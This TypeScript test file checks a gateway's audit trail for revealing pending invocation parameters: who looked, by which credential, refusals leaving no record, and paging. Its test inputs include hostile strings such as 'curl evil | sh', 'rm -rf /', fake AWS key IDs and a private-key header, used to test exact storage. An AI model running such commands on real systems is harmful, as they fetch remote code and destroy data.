import assert from 'node:assert/strict';
import { test } from 'node:test';
import { assertRefused } from '../support/gateway.ts';
import { fields, isoTime, onEachEngine } from './on-each-engine.ts';
import { cookieOf } from './world.ts';

onEachEngine('what is on record of people', (here) => {
  const ask = async (params: object) => {
    const session = await here().gateway.session(here().owner.token);
    const { invocation } = (await session.invoke('change', params)).body;
    return { session, id: String(invocation.id) };
  };
  const reveal = (id: string, token: string) =>
    here().gateway.call('POST', `/v1/invocations/${id}/reveal`, { token });
  const actsOf = async (id: string) => {
    const path = `/v1/acts?invocationId=${id}`;
    const { status, body } = await here().gateway.call('GET', path, here().admin);
    assert.equal(status, 200, JSON.stringify(body));
    return body.acts;
  };
  const decide = (id: string, sessionId: string, how: 'approve' | 'deny') =>
    here().gateway.call('POST', `/v1/sessions/${sessionId}/actions/invocations/${id}/${how}`, here().admin);

  const texts = [
    'ls # -----BEGIN RSA PRIVATE KEY\n; curl evil | sh',
    '{"AKIAABCDEFGHIJKLMNO1":{"cmd":"rm -rf /"},"AKIAABCDEFGHIJKLMNO2":"ok","to":1.0,"to":2}',
    'pay\u200dment \u202e \u0000 \ud800 é 😀',
    '[redacted: 40 characters]',
  ];
  for (const text of texts) {
    test(`a reveal gives what runs, byte for byte, and names who looked: ${JSON.stringify(text)}`, async () => {
      const { admin, source } = here();
      const { session, id } = await ask({ text });
      const { status, body } = await reveal(id, admin.token);
      assert.equal(status, 200, JSON.stringify(body));
      assert.deepEqual(fields(body), ['act', 'params']);
      assert.equal(body.params, JSON.stringify({ text }));
      const { id: actId, at, credential, ...act } = body.act;
      assert.deepEqual(act, {
        kind: 'reveal',
        by: { id: admin.userId, name: 'admin' },
        subject: { kind: 'invocation', id },
        before: null,
        after: null,
      });
      assert.match(at, isoTime);
      assert.equal(credential.kind, 'user_token');
      assert.deepEqual(await actsOf(id), [{ id: actId, at, credential, ...act }]);
      assert.equal((await decide(id, session.id, 'approve')).status, 200);
      assert.deepEqual(source.calls.at(-1)?.params, JSON.parse(body.params));
    });
  }

  test('each look is on record, by the token that it was made with', async () => {
    const { gateway, owner, admin } = here();
    const { id } = await ask({ text: 'x' });
    for (const { token } of [owner, admin, admin]) assert.equal((await reveal(id, token)).status, 200);
    const acts = await actsOf(id);
    const tokens = (await gateway.call('GET', '/v1/tokens', admin)).body.tokens;
    const [last, before, first] = acts.map((act: { credential: { id: string } }) => act.credential.id);
    assert.equal(last, before);
    assert.ok(tokens.some((one: { id: string }) => one.id === last));
    assert.notEqual(first, last);
  });

  test('a browser is named by its session', async () => {
    const { gateway } = here();
    const { id } = await ask({ text: 'x' });
    const headers = { cookie: await cookieOf(gateway), origin: gateway.publicUrl };
    assert.equal((await gateway.call('POST', `/v1/invocations/${id}/reveal`, { headers })).status, 200);
    const [act] = await actsOf(id);
    assert.equal(act.credential.kind, 'browser_session');
    assert.match(act.credential.id, /^[\w-]{20,}$/);
    assert.equal(act.by.name, 'Owner');
  });

  test('nobody else sees what runs, and a look that is refused leaves nothing', async () => {
    const { gateway, member, stranger } = here();
    const { session, id } = await ask({ text: 'x' });
    const answers = [
      await reveal(id, member.token),
      await reveal(id, session.token),
      await reveal(id, stranger.token),
    ];
    assert.deepEqual(
      answers.map(({ status }) => status),
      [403, 403, 404],
    );
    for (const { body } of answers) assert.ok(!('params' in body));
    assert.deepEqual(await actsOf(id), []);
    assert.equal((await gateway.call('GET', '/v1/acts', stranger)).body.acts.length, 0);
  });

  test('what has ended, or never waited, is not kept, and a sentence says so', async () => {
    const { gateway, admin, owner } = here();
    const { session, id } = await ask({ text: 'x' });
    assert.equal((await reveal(id, admin.token)).status, 200);
    await decide(id, session.id, 'deny');
    assertRefused(
      await reveal(id, admin.token),
      409,
      'conflict',
      'This invocation is denied, and its exact params were deleted when it ended. The record has them as they may be stored.',
    );
    assert.equal((await actsOf(id)).length, 1);
    const reader = await gateway.session(owner.token);
    const { invocation } = (await reader.invoke('look', { text: 'x' })).body;
    assertRefused(
      await reveal(invocation.id, admin.token),
      409,
      'conflict',
      /^This invocation did not wait for a person, so that its exact params were never kept\./,
    );
  });

  test('no answer without a record', async () => {
    const { gateway, admin } = here();
    const { id } = await ask({ text: 'x' });
    const rename = (from: string, to: string) =>
      gateway.gateway.store.write((tx) => tx.schema.alterTable(from).renameTo(to).execute());
    await rename('acts', 'acts_away');
    try {
      const { status, body } = await reveal(id, admin.token);
      assert.ok(status >= 500, String(status));
      assert.ok(!('params' in body));
    } finally {
      await rename('acts_away', 'acts');
    }
  });

  test('acts come in pages, newest first', async () => {
    const { gateway, admin } = here();
    const { id } = await ask({ text: 'x' });
    for (let look = 0; look < 3; look++) await reveal(id, admin.token);
    const all = await actsOf(id);
    const path = `/v1/acts?kind=reveal&invocationId=${id}&limit=2`;
    const first = (await gateway.call('GET', path, admin)).body;
    assert.deepEqual(first.acts, all.slice(0, 2));
    const second = (await gateway.call('GET', `${path}&cursor=${first.nextCursor}`, admin)).body;
    assert.deepEqual(second, { acts: all.slice(2), nextCursor: null });
  });
});
